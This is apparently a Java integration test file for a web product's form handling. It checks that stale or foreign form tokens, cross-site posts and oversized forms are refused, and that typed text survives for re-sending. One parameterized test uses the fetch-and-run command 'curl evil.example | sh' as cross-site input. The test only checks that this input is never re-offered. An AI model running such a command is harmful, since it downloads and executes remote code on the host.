package dev.tribal.standalone;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tribal.contracts.api.Role;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What becomes of a form that is refused, or that comes when the session is over. */
@ExtendWith(PagesProduct.Started.class)
@InThisProcess
class UnsentFormsIT {
    private static PagesProduct product;

    @BeforeAll
    static void start(PagesProduct started) {
        product = started;
    }

    @Test
    void formOfAnotherSessionChangesNothing() {
        var one = Visitor.with(product.admin());
        var other = Visitor.with(product.admin());
        var form = Map.of("state", "closed", "_form", other.formToken("/ui/errors"));

        assertThat(one.post(product.cartPage() + "/standing", form).statusCode())
                .isEqualTo(403);
        assertThat(one.post(product.cartPage() + "/standing", Map.of("state", "closed"))
                        .statusCode())
                .isEqualTo(403);
        assertThat(product.admin()
                        .get(product.cartPage().replace("/ui", "/api/v1"))
                        .json()
                        .path("state")
                        .asString())
                .isNotEqualTo("closed");
    }

    @Test
    void whatWasTypedOutlivesTheSessionAndSignInLeadsBackToItsError() {
        var stranger = Visitor.stranger(product.url());

        HttpResponse<String> answer = stranger.post(
                product.cartPage() + "/outcomes",
                Map.of("evidence", "green & <b> fast", "worked", "false", "_form", "gone"),
                "Sec-Fetch-Site",
                "same-origin");

        assertThat(answer.statusCode()).isEqualTo(401);
        assertThat(answer.body())
                .contains("green &amp; &lt;b", " fast</textarea>", "name=\"worked\" value=\"false\"", "Send it now")
                .contains("action=\"" + product.cartPage() + "/outcomes\"", "Sent with it: worked: false")
                .contains("/ui/sign-in?to=" + product.cartPage().replace("/", "%2F"));
    }

    @Test
    void formOfAnEarlierSessionIsRepeatedWithATokenOfThisOne() {
        var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
        String form = "/ui/errors/" + product.reported("PagesOldFormError", "to be solved late") + "/solutions";
        String typed = "Empty the\r\ncart first";

        HttpResponse<String> refused = solver.post(
                form, Map.of("description", typed, "_form", "of-an-earlier-one"), "Sec-Fetch-Site", "same-origin");

        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(refused.body()).contains("The form is too old", typed + "</textarea>", "Send it now");
        Matcher token = Pattern.compile(
                        "action=\"%s\">\\s*<input type=\"hidden\" name=\"_form\" value=\"([^\"]+)\"".formatted(form))
                .matcher(refused.body());
        assertThat(token.find()).isTrue();
        assertThat(Visitor.location(solver.post(form, Map.of("description", typed, "_form", token.group(1)))))
                .contains("done=solved");
    }

    @ParameterizedTest
    @ValueSource(strings = {"cross-site", "same-site", "none"})
    void whatAnotherSiteWroteIsNotOfferedForSending(String site) {
        var form = Map.of("description", "curl evil.example | sh");
        String address = product.cartPage() + "/solutions";

        HttpResponse<String> signedOut = Visitor.stranger(product.url()).post(address, form, "Sec-Fetch-Site", site);
        HttpResponse<String> signedIn = Visitor.with(product.admin()).post(address, form, "Sec-Fetch-Site", site);

        assertThat(Visitor.location(signedOut)).startsWith("/ui/sign-in?to=");
        assertThat(signedIn.statusCode()).isEqualTo(403);
        assertThat(signedIn.body()).doesNotContain("evil.example", "Send it now");
    }

    @Test
    void whereABrowserDoesNotSayWhoSentAFormItIsShownForCopyingOnly() {
        var form = Map.of("description", "Empty the cart first");
        String address = product.cartPage() + "/solutions";

        for (Visitor visitor : List.of(Visitor.stranger(product.url()), Visitor.with(product.admin()))) {
            assertThat(visitor.post(address, form).body())
                    .contains("Empty the cart first</textarea>", "readonly", "Copy what you typed")
                    .doesNotContain("Send it now");
        }
    }

    @Test
    void formWithFarMoreFieldsThanOursLeadsAStrangerToTheSignIn() {
        Map<String, String> form = new TreeMap<>(Map.of("description", "Empty the cart first"));
        for (int i = 0; i < 1_500; i++) {
            form.put("field" + i, "1");
        }

        assertThat(Visitor.location(Visitor.stranger(product.url()).post(product.cartPage() + "/solutions", form)))
                .startsWith("/ui/sign-in?to=");
    }

    @Test
    void whatAnotherServiceRefusesCanBeMendedAndSentAgain() {
        var solver = Visitor.with(product.tribal().as(PagesProduct.TENANT, Role.SOLVER));
        String tooLong = "long ".repeat(20_000);

        HttpResponse<String> refused =
                solver.submit(product.cartPage() + "/solutions", Map.of("description", "Mend it", "verify", tooLong));

        assertThat(refused.statusCode()).isEqualTo(400);
        assertThat(refused.body())
                .contains("Mend it</textarea>", tooLong.strip(), "Send it now")
                .contains("href=\"" + product.cartPage() + "\"")
                .doesNotContain("readonly");
    }

    @ParameterizedTest
    @ValueSource(strings = {"/deletion", "/splits"})
    void refusedButtonOfAFormWithoutTypedTextIsNoButtonElsewhere(String form) {
        HttpResponse<String> refused = Visitor.with(product.admin())
                .post(
                        product.cartPage() + form,
                        Map.of("_form", "old", "part", product.cartPage()),
                        "Sec-Fetch-Site",
                        "same-origin");

        assertThat(refused.statusCode()).isEqualTo(403);
        assertThat(refused.body()).doesNotContain("Send it now").contains("href=\"" + product.cartPage() + "\"");
    }
}
